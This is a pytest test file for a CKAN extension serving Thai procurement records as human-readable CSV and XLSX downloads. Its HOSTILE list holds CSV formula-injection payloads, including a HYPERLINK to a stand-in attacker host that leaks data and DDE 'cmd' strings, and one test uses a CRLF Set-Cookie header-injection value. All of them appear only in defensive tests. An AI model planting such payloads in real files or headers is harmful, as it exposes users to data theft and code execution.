"""Downloads for people beside those for machines: the same rows, read with the
same rights, with the schema's titles, readable numbers and Thai dates, a file
name from the agency, item and period; the machine forms stay as they were."""
from __future__ import annotations

import csv
import io
from urllib.parse import quote, unquote

import openpyxl
import pytest
from bs4 import BeautifulSoup
from werkzeug.datastructures import FileStorage

import ckan.plugins.toolkit as tk
from ckan.tests import factories

from ckanext.oit import spreadsheet_cells
from ckanext.oit.records import downloads
from support.jobs import run_jobs
from support.records import HEADER, ROWS, csv_bytes, rows_of

pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index", "clean_queues")

TABLE = "procurement-monthly-summary"
TITLES_TH = ["ลำดับที่", "งานที่จัดซื้อหรือจัดจ้าง", "วงเงินที่จะซื้อหรือจ้าง", "ราคากลาง", "วิธีซื้อหรือจ้าง",
             "รายชื่อผู้เสนอราคาและราคาที่เสนอ", "ผู้ได้รับการคัดเลือก", "ราคาที่ตกลงซื้อหรือจ้าง",
             "เหตุผลที่คัดเลือกโดยสรุป", "เลขที่ของสัญญาหรือข้อตกลงในการซื้อหรือจ้าง",
             "วันที่ของสัญญาหรือข้อตกลงในการซื้อหรือจ้าง"]
TITLES_EN = ["No.", "Goods or works procured", "Budget amount (THB)", "Reference price (THB)", "Procurement method",
             "Bidders and prices offered", "Selected supplier", "Agreed price (THB)", "Reason for selection",
             "Contract or agreement number", "Contract or agreement date"]
FIRST_TH = ["1", "จัดซื้อกระดาษ A4 จำนวน 100 รีม", "12,500.00", "12,500.00", "วิธีเฉพาะเจาะจง", "",
            "ร้านเครื่องเขียนไทย", "12,000.00", "", "4/2569", "15 ต.ค. 2568"]
SECOND_TH = ["2", "จ้างซ่อมเครื่องปรับอากาศ", "45,000.00", "45,000.00", "วิธีประกาศเชิญชวนทั่วไป (e-market)", "",
             "บริษัท เย็นฉ่ำ จำกัด", "44,200.00", "", "5/2569", "20 ต.ค. 2568"]
ITEM_TH = "สรุปผลการจัดซื้อจัดจ้างหรือการจัดหาพัสดุรายเดือน"  # O21 of the edition of FY 2569
HOSTILE = ['=HYPERLINK("http://attacker.example/?leak","ดูรายละเอียด")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _loaded(office, state: str, encoding: str = "cp874") -> tuple[dict, dict]:
    """A monthly summary (October 2568) whose rows the job loaded, taken to ``state``."""
    dataset = office.dataset("draft")
    resource = office.act("editor", "resource_create", package_id=dataset["id"], format="CSV", url="",
                          upload=FileStorage(stream=io.BytesIO(csv_bytes(HEADER, ROWS, encoding)), filename="m.csv"))
    run_jobs()
    assert tk.get_action("resource_show")({"ignore_auth": True}, {"id": resource["id"]})[
        "oit_records"]["status"] == "loaded"
    dataset = office.move(dataset["id"], state) if state != "draft" else dataset
    return dataset, resource


def _headers(office, role: str) -> dict:
    user = office.users[role]
    return {"Authorization": factories.APIToken(user=user["name"])["token"]} if user else {}


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(spreadsheet_cells.BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _disposition(stem: str, title: str) -> str:
    return f"attachment; filename=\"{stem}\"; filename*=UTF-8''{quote(title, safe='')}"


def test_the_resource_csv_for_people_has_thai_titles_readable_cells_and_its_name(office, app):
    dataset, resource = _loaded(office, "published")
    response = app.get(f"/oit/records/resource/{resource['id']}.csv", query_string={"for": "people"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2568-10.csv", f"สพป.ตัวอย่าง_{ITEM_TH}_ตุลาคม 2568.csv")
    assert _csv(response.get_data()) == [TITLES_TH, FIRST_TH, SECOND_TH]


def test_english_pages_download_english_titles_and_dates(office, app):
    _, resource = _loaded(office, "published")
    response = app.get(f"/en/oit/records/resource/{resource['id']}.csv", query_string={"for": "people"})
    assert response.status_code == 200
    rows = _csv(response.get_data())
    assert rows[0] == TITLES_EN
    assert rows[1][2] == "12,500.00" and rows[1][10] == "15 Oct 2025" and rows[1][0] == "1"
    assert response.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2568-10.csv", "สพป.ตัวอย่าง_Monthly procurement summary_October 2025.csv")


def test_the_resource_xlsx_for_people_keeps_numbers_as_numbers_shown_with_separators(office, app):
    _, resource = _loaded(office, "published")
    response = app.get(f"/oit/records/resource/{resource['id']}.xlsx", query_string={"for": "people"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == downloads.XLSX_TYPE
    assert response.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2568-10.xlsx", f"สพป.ตัวอย่าง_{ITEM_TH}_ตุลาคม 2568.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == TITLES_TH and len(rows) == 3
    number, amount, date = rows[1][0], rows[1][2], rows[1][10]
    assert (number.value, number.data_type, number.number_format) == (1, "n", "#,##0")
    assert (amount.value, amount.data_type, amount.number_format) == (12500, "n", "#,##0.00")
    assert (date.value, date.data_type) == ("15 ต.ค. 2568", "s")
    assert rows[1][1].value == "จัดซื้อกระดาษ A4 จำนวน 100 รีม" and rows[1][5].value is None


def test_the_agency_download_for_people_names_fiscal_year_and_period_in_words(office, app):
    _loaded(office, "published")
    base = f"/oit/records/{office.org['name']}/{TABLE}"
    response = app.get(base + ".csv", query_string={"fiscal_year": "2569", "for": "people"})
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2569.csv",
        "สพป.ตัวอย่าง_สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน (แบบ สขร.1)_ปีงบประมาณ 2569.csv")
    assert _csv(response.get_data()) == [["ปีงบประมาณ", "ช่วงเวลา"] + TITLES_TH,
                                         ["2569", "ตุลาคม 2568"] + FIRST_TH, ["2569", "ตุลาคม 2568"] + SECOND_TH]

    month = app.get(base + ".xlsx", query_string={"fiscal_year": "2569", "period": "2025-10", "for": "people"})
    assert month.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2568-10.xlsx",
        "สพป.ตัวอย่าง_สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน (แบบ สขร.1)_ตุลาคม 2568.xlsx")
    rows = [[c.value for c in row] for row in openpyxl.load_workbook(io.BytesIO(month.get_data())).active.iter_rows()]
    assert rows[0][:3] == ["ปีงบประมาณ", "ช่วงเวลา", "ลำดับที่"]
    assert rows[1][:5] == [2569, "ตุลาคม 2568", 1, "จัดซื้อกระดาษ A4 จำนวน 100 รีม", 12500]

    english = app.get("/en" + base + ".csv", query_string={"fiscal_year": "2569", "for": "people"})
    header, first = _csv(english.get_data())[:2]
    assert header == ["Fiscal year", "Period"] + TITLES_EN
    assert first[:2] == ["2569", "October 2025"] and first[12] == "15 Oct 2025"
    assert app.get(base + ".json", query_string={"for": "people"}).status_code == 404  # JSON is for machines


def test_the_machine_forms_stay_as_they_were(office, app):
    _, resource = _loaded(office, "published")
    machine = app.get(f"/oit/records/resource/{resource['id']}.csv")
    assert machine.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert machine.headers["Content-Disposition"] == f'attachment; filename="records-{resource["id"]}.csv"'
    assert machine.get_data().decode("utf-8") == "\ufeff" + "\r\n".join([
        ",".join(TITLES_TH),
        "1,จัดซื้อกระดาษ A4 จำนวน 100 รีม,12500,12500,วิธีเฉพาะเจาะจง,,ร้านเครื่องเขียนไทย,12000,,4/2569,2025-10-15",
        "2,จ้างซ่อมเครื่องปรับอากาศ,45000,45000,วิธีประกาศเชิญชวนทั่วไป (e-market),,บริษัท เย็นฉ่ำ จำกัด,44200,,5/2569,"
        "2025-10-20", ""])
    agency = app.get(f"/oit/records/{office.org['name']}/{TABLE}.csv", query_string={"fiscal_year": "2569"})
    header, first = _csv(agency.get_data())[:2]
    assert header[:4] == ["_dataset", "_fiscal_year", "_period", "ลำดับที่"]
    assert first[1:6] == ["2569", "2025-10", "1", "จัดซื้อกระดาษ A4 จำนวน 100 รีม", "12500.0"] and first[-1] == "2025-10-15"
    assert agency.headers["Content-Disposition"] == f'attachment; filename="{office.org["name"]}-{TABLE}-2569.csv"'
    # every CSV of ours names one charset (werkzeug had added a second one)
    for url in (f"/oit/tables/{TABLE}/template.csv", f"/oit/{office.org['name']}/2569/itas.csv"):
        assert app.get(url).headers["Content-Type"] == "text/csv; charset=utf-8", url
    as_json = app.get(f"/oit/records/{office.org['name']}/{TABLE}.json", query_string={"fiscal_year": "2569"})
    assert as_json.headers["Content-Type"] == "application/json; charset=utf-8"
    assert as_json.json["records"][0]["contract_date"] == "2025-10-15"


def test_the_people_csv_of_a_table_uploads_back_as_the_same_rows(office, app):
    _, resource = _loaded(office, "published")
    body = app.get(f"/oit/records/resource/{resource['id']}.csv", query_string={"for": "people"}).get_data()
    again = office.dataset("draft")
    copy = office.act("editor", "resource_create", package_id=again["id"], format="CSV", url="",
                      upload=FileStorage(stream=io.BytesIO(body), filename="people.csv"))
    run_jobs()
    assert tk.get_action("resource_show")({"ignore_auth": True}, {"id": copy["id"]})["oit_records"]["status"] == "loaded"
    assert rows_of(copy["id"]) == rows_of(resource["id"])   # Thai titles, grouped amounts and Thai dates read back

def _hostile_table(office) -> dict:
    """A published dataset's resource with a table written straight into the DataStore (no loader
    to trim a tab or a CR), in a column of no table schema."""
    published = office.dataset("published")
    resource_id = published["resources"][0]["id"]
    office.act("sysadmin", "datastore_create", resource_id=resource_id, force=True,
               fields=[{"id": "งาน", "type": "text"}, {"id": "จำนวน", "type": "int"}, {"id": "วันที่", "type": "date"}],
               records=[{"งาน": text, "จำนวน": 1250 * i, "วันที่": "2025-10-15"} for i, text in enumerate(HOSTILE)])
    return published


def test_formula_like_text_stays_text_in_both_forms(office, app):
    resource_id = _hostile_table(office)["resources"][0]["id"]
    people = _csv(app.get(f"/oit/records/resource/{resource_id}.csv", query_string={"for": "people"}).get_data())
    assert people[0] == ["งาน", "จำนวน", "วันที่"]
    assert [row[0] for row in people[1:]] == ["'" + text for text in HOSTILE]
    assert [row[1] for row in people[1:3]] == ["0", "1,250"] and people[1][2] == "15 ต.ค. 2568"
    machine = _csv(app.get(f"/oit/records/resource/{resource_id}.csv").get_data())
    assert [row[0] for row in machine[1:]] == ["'" + text for text in HOSTILE]
    for query in ({"for": "people"}, {}):
        book = openpyxl.load_workbook(io.BytesIO(app.get(f"/oit/records/resource/{resource_id}.xlsx",
                                                         query_string=query).get_data()))
        cells = [c for row in book.active.iter_rows() for c in row]
        assert all(c.data_type != "f" for c in cells)
        texts = [row[0] for row in book.active.iter_rows(min_row=2)]
        assert [(c.value, c.data_type, c.quotePrefix) for c in texts] == [(t, "s", True) for t in HOSTILE], query


def test_a_title_with_slashes_quotes_and_semicolons_names_the_file_safely(office, app):
    office.act("sysadmin", "organization_patch", id=office.org["id"], title='สพป. "ทดสอบ"/เขต\\1; ลบ\r\nSet-Cookie: x')
    _, resource = _loaded(office, "published")
    response = app.get(f"/oit/records/resource/{resource['id']}.csv", query_string={"for": "people"})
    assert response.status_code == 200 and "Set-Cookie" not in response.headers
    assert response.headers["Content-Disposition"] == _disposition(
        f"{office.org['name']}_{TABLE}_2568-10.csv", f"สพป. -ทดสอบ-เขต-1- ลบ-Set-Cookie- x_{ITEM_TH}_ตุลาคม 2568.csv")


def test_a_long_thai_agency_name_still_gives_a_name_a_browser_can_save(office, app):
    # 116 letters, 318 bytes in UTF-8: past the 255 bytes of a file name, a browser failed the download
    long_title = "สำนักงานเขตพื้นที่การศึกษาประถมศึกษาตัวอย่างจังหวัดหนึ่ง เขต 1 กระทรวงศึกษาธิการ ส่วนราชการระดับพื้นที่"
    office.act("sysadmin", "organization_patch", id=office.org["id"], title=long_title)
    _, resource = _loaded(office, "published")
    for fmt in ("csv", "xlsx"):
        response = app.get(f"/oit/records/resource/{resource['id']}.{fmt}", query_string={"for": "people"})
        assert response.status_code == 200
        shown = unquote(response.headers["Content-Disposition"].split("filename*=UTF-8''", 1)[1])
        # the item and the month whole; of the agency's name, whole letters from its start
        agency, item, month = shown.removesuffix(f".{fmt}").split("_")
        assert (item, month) == (ITEM_TH, "ตุลาคม 2568") and long_title.startswith(agency) and len(agency) > 15
        assert len(shown.encode("utf-8")) <= 236 and "\ufffd" not in shown, shown


def test_a_non_public_table_is_not_downloadable_by_others_in_either_form(office, app):
    _, resource = _loaded(office, "draft")
    url = f"/oit/records/resource/{resource['id']}"
    for role in ("anonymous", "stranger", "other_editor", "other_admin"):
        for fmt in ("csv", "xlsx"):
            headers = _headers(office, role)
            people = app.get(f"{url}.{fmt}", query_string={"for": "people"}, headers=headers)
            machine = app.get(f"{url}.{fmt}", headers=headers)
            assert (people.status_code, machine.status_code) == (403, 403), (role, fmt)
            assert "จัดซื้อกระดาษ" not in people.get_data(as_text=True)
    editor = app.get(f"{url}.csv", query_string={"for": "people"}, headers=_headers(office, "editor"))
    assert editor.status_code == 200 and _csv(editor.get_data())[1] == FIRST_TH
    unknown = app.get("/oit/records/resource/no-such-resource.csv", query_string={"for": "people"})
    assert unknown.status_code == 404

    base = f"/oit/records/{office.org['name']}/{TABLE}.csv"
    query = {"fiscal_year": "2569", "for": "people"}
    for role in ("anonymous", "stranger", "other_editor"):
        rows = _csv(app.get(base, query_string=query, headers=_headers(office, role)).get_data())
        assert rows == [["ปีงบประมาณ", "ช่วงเวลา"] + TITLES_TH], role   # the draft's rows take no part
    own = _csv(app.get(base, query_string=query, headers=_headers(office, "editor")).get_data())
    assert own[1] == ["2569", "ตุลาคม 2568"] + FIRST_TH
    assert app.get(f"/oit/records/no-such-org/{TABLE}.csv", query_string=query).status_code == 404
    refused = app.get(base, query_string={"fiscal_year": "abc", "for": "people"})
    said = refused.get_data(as_text=True).split("</h1>")[1].split("</div>")[0].strip()
    assert refused.status_code == 400   # in the page's language, not a Python dict
    assert said == "ปีงบประมาณ: อ่านปี พ.ศ.จาก “abc” ไม่ได้ (ตัวอย่างที่อ่านได้: 2568, พ.ศ. 2568, 68)"


def test_big_tables_are_read_and_streamed_a_page_at_a_time(office, app, monkeypatch):
    monkeypatch.setattr(downloads, "PAGE", 2)
    resource_id = _hostile_table(office)["resources"][0]["id"]
    response = app.get(f"/oit/records/resource/{resource_id}.csv", query_string={"for": "people"})
    assert response.is_streamed
    assert [row[1] for row in _csv(response.get_data())[1:]] == ["0", "1,250", "2,500", "3,750", "5,000", "6,250"]

    _loaded(office, "published")
    monkeypatch.setattr(downloads, "PAGE", 1)
    rows = _csv(app.get(f"/oit/records/{office.org['name']}/{TABLE}.csv",
                        query_string={"fiscal_year": "2569", "for": "people"}).get_data())
    assert [row[2] for row in rows[1:]] == ["1", "2"]

    monkeypatch.setattr(downloads, "XLSX_MAX_ROWS", 6)  # header and five rows: the sixth does not fit
    too_big = app.get(f"/oit/records/resource/{resource_id}.xlsx", query_string={"for": "people"})
    assert too_big.status_code == 413
    assert "ตารางนี้มี 6 แถว เกินกว่าที่สเปรดชีตหนึ่งแผ่นรับได้ (5 แถว)" in too_big.get_data(as_text=True)


@pytest.mark.parametrize("encoding, charset", [("cp874", "windows-874"), ("utf-8", "utf-8")])
def test_the_original_csv_is_served_with_its_charset(office, app, encoding, charset):
    _, resource = _loaded(office, "published", encoding)
    url = tk.get_action("resource_show")({"ignore_auth": True}, {"id": resource["id"]})["url"]
    response = app.get(url.replace("http://test.ckan.net", ""))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == f"text/csv; charset={charset}"
    assert response.get_data() == csv_bytes(HEADER, ROWS, encoding)   # the file as it came


def test_a_cut_off_start_of_a_file_still_names_its_charset():
    text = ("งานที่จัดซื้อ,ราคา\n" * 5000).encode("utf-8")
    assert downloads.charset_of(text[:downloads.SNIFF_BYTES], whole=False) == "utf-8"
    thai = ("งานที่จัดซื้อ,ราคา\n" * 5000).encode("cp874")
    assert downloads.charset_of(thai[:downloads.SNIFF_BYTES], whole=False) == "windows-874"
    assert downloads.charset_of("a,b\n".encode("utf-16"), whole=True) == "utf-16"


def test_cells_for_people():
    assert [downloads.cell(v, "number", "th") for v in (12500.0, "12500", 4.125, -1250.5, 0.1 + 0.2)] == [
        "12,500.00", "12,500.00", "4.125", "-1,250.50", "0.30"]
    assert [downloads.cell(v, "integer", "th") for v in (1, 1250.0, 2569)] == ["1", "1,250", "2,569"]
    assert downloads.cell(2569, "year", "th") == "2569" and downloads.cell(None, "number", "th") == ""
    assert downloads.cell("2025-10-15", "date", "th") == "15 ต.ค. 2568"
    assert downloads.cell("2025-10-15T09:30:00", "datetime", "th") == "15 ต.ค. 2568 เวลา 09:30 น."
    assert downloads.period_words("2025-10", 2569, "th") == "ตุลาคม 2568"
    assert downloads.period_words("year", 2569, "th") == "ทั้งปีงบประมาณ"
    assert downloads.period_words("round-1", 2569, "en").startswith("Round 1 (Oct 2025")


def test_the_resource_page_offers_people_first_and_machines_beside(office, app):
    dataset, resource = _loaded(office, "published")
    page = app.get(f"/dataset/{dataset['name']}/resource/{resource['id']}").get_data(as_text=True)
    csv_url, xlsx_url = (f"/oit/records/resource/{resource['id']}.{fmt}" for fmt in ("csv", "xlsx"))
    assert f'<a id="oit-records-csv" class="btn btn-primary mb-1" href="{csv_url}?for=people">ดาวน์โหลด CSV</a>' in page
    assert f'<a id="oit-records-xlsx" class="btn btn-primary mb-1" href="{xlsx_url}?for=people">ดาวน์โหลด XLSX (Excel)</a>' in page
    assert "สำหรับโปรแกรม (API)" in page and f'<a id="oit-records-machine-csv" href="{csv_url}">CSV</a>' in page
    english = app.get(f"/en/dataset/{dataset['name']}/resource/{resource['id']}").get_data(as_text=True)
    assert f'href="/en{csv_url}?for=people">Download CSV</a>' in english and "For machines (API)" in english
    # CKAN's primary "Download" at the top served the file as uploaded: it says so, and is plain
    top = BeautifulSoup(page, "html.parser").select_one(".module-resource .actions")
    [original] = top.select("a.resource-url-analytics")
    assert original["id"] == "oit-original-file" and "btn-primary" not in original["class"]
    assert original.get_text(strip=True) == "ไฟล์ต้นฉบับ" and original["href"] == resource["url"]


